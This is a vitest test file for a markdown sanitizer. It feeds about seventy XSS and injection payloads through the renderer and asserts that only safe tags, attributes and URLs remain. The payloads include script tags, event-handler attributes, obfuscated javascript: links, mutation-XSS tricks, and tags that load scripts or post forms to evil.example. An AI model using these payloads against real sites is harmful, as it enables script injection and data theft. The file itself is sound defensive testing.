import {expect, test} from 'vitest'
import {schema} from '../../../src/render/markdown/sanitize.ts'
import {elementsOf} from '../parse-html.ts'
import {htmlOf} from '../rendering.ts'

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  'text <script src=//evil.example/x.js></script>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" style="position:fixed">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="vbscript:x" onclick="alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x](https://example.org/"onmouseover="alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x" onerror="alert(1)](drawing.svg)',
  '![x](drawing.svg "\\" onload=\\"alert(1)")',
  '<javascript:alert(1)>',
  '<https://example.org/"><script>alert(1)</script>',
  'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: note',
  'x[^a]\n\n[^a]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '## <img src=x onerror=alert(1)> heading',
  '## "><script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```',
  '```yaml" onload="alert(1)\nx: 1\n```',
  '```mermaid\n</code></pre></figure><script>alert(1)</script>\n```',
  ':::note <script>alert(1)</script>\nx\n:::',
  ':::note[<img src=x onerror=alert(1)>]{onclick=alert(1)}\nx\n:::',
  ':::note [x](javascript:alert(1))\nx\n:::',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name="q"><button>Go</button></form>',
  '<input type="image" src="x" onfocus=alert(1) autofocus>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
  '<video src="x" onerror="alert(1)"><source src="x"></video><audio src="x">',
  '<details ontoggle="alert(1)" open><summary onclick="alert(1)">x</summary></details>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div class="admonition" id="app" onmouseover="alert(1)">x</div>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php <script>alert(1)</script> ?>',
  '<img name="getElementById" src="drawing.svg"><a name="location" id="cookie">x</a>',
  '<b><p><script>alert(1)</script></b></p></div></article></main></body>',
  '<img srcset="https://evil.example/x.png 1x" src="//evil.example/x.png">',
  '<img src="/\\evil.example/x.png">',
  '<img src="\\\\evil.example/x.png">',
  '<img src="/&#9;/evil.example/x.png">',
  '<img src="&#1;//evil.example/x.png">',
  '<img src="&#10;https://evil.example/x.png">',
  '<img src="ht&#10;tps://evil.example/x.png">',
  '<img src="https:evil.example/x.png">',
  '<img src="//one.invalid/x.png">',
  '![x](/\\evil.example/x.png)',
  '![x](</&Tab;/evil.example/x.png>)'
]

const ours = ['tabIndex', 'role', 'ariaLabel', 'loading', 'decoding', 'dataFootnoteRef', 'dataFootnoteBackref']
const known = new Set([
  ...ours,
  ...Object.values(schema.attributes ?? {}).flatMap((names) =>
    names.map((name) => (Array.isArray(name) ? name[0] : name))
  )
])

test.each(attacks)('%j runs, loads and restyles nothing', async (attack) => {
  for (const {tagName, properties} of elementsOf(await htmlOf(`Before.\n\n${attack}\n\nAfter.`))) {
    expect(schema.tagNames).toContain(tagName)
    for (const [name, value] of Object.entries(properties)) {
      expect(known).toContain(name)
      if (name === 'href') expect(new URL(`${value}`, 'https://site.example').protocol).toMatch(/^(https|mailto):$/)
      if (name === 'src') {
        expect(value).toMatch(/^\/[^/]/)
        expect(new URL(`${value}`, 'https://site.example').host).toBe('site.example')
      }
    }
    if (tagName !== 'a') expect(properties).not.toHaveProperty('name')
  }
})

test.each(attacks.filter((attack) => !/<!--|<!\[|<\?|<template/.test(attack)))(
  '%j leaves the text around it alone',
  async (attack) => {
    const html = await htmlOf(`Before.\n\n${attack}\n\nAfter.`)
    expect(html).toContain('Before.')
    expect(html).toContain('After.')
  }
)

test('harmless HTML comes out as it is', async () => {
  const html =
    '<p><kbd>Ctrl</kbd> <sub>1</sub> <sup>2</sup> <mark>m</mark> <abbr title="T">t</abbr> a<br>b <bdi dir="rtl">c</bdi></p>'
  expect(await htmlOf(html)).toBe(html)
})
